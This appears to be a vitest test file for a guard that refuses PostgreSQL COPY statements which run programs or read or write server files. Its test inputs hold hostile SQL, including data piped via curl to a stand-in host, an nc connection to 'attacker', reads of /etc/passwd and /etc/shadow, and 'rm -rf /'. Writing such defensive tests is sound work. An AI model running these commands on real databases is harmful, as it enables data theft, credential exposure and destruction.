import { beforeAll, describe, expect, it } from 'vitest';
import { refusalReason } from '../../src/schema/refuse.js';
import { loadSqlScanner } from '../../src/schema/split.js';

beforeAll(async () => {
  await loadSqlScanner();
});

describe('refusalReason', () => {
  it('refuses COPY that runs a program or touches a server file, read from the parse tree', () => {
    expect(refusalReason(`COPY accounts TO PROGRAM 'curl -d @- https://example.invalid'`)).toBe('COPY ... TO PROGRAM would run a program on this machine');
    expect(refusalReason(`copy accounts (email) from program 'cat /etc/passwd' with (format csv)`)).toBe('COPY ... FROM PROGRAM would run a program on this machine');
    expect(refusalReason(`COPY accounts FROM '/etc/passwd'`)).toBe(`COPY ... FROM '/etc/passwd' would read or write a file as the server`);
    expect(refusalReason(`COPY (SELECT email FROM accounts) TO '/tmp/emails.csv' WITH (FORMAT csv)`)).toBe(`COPY ... TO '/tmp/emails.csv' would read or write a file as the server`);
  });

  it('lets COPY through the client connection pass: dumps use FROM stdin', () => {
    expect(refusalReason('COPY public.schema_migrations (version) FROM stdin')).toBeUndefined();
    expect(refusalReason('COPY accounts TO STDOUT')).toBeUndefined();
    expect(refusalReason('COPY (SELECT 1) TO STDOUT WITH (FORMAT csv)')).toBeUndefined();
  });

  it('leaves statements that only mention the words alone', () => {
    expect(refusalReason(`SELECT 'COPY t TO PROGRAM ''rm -rf /'''`)).toBeUndefined();
    expect(refusalReason('CREATE TABLE program (copy text)')).toBeUndefined();
  });

  it('falls back to the text when the statement does not parse', () => {
    expect(refusalReason(`COPY accounts TO PROGRAM 'nc attacker 9' WITH (FORMAT`)).toBe('COPY ... PROGRAM would run a program on this machine');
    expect(refusalReason(`COPY accounts FROM E'/etc/shadow' WITH (`)).toBe('COPY with a file name would read or write a file as the server');
    expect(refusalReason('COPY accounts FROM stdin WITH (')).toBeUndefined();
  });
});
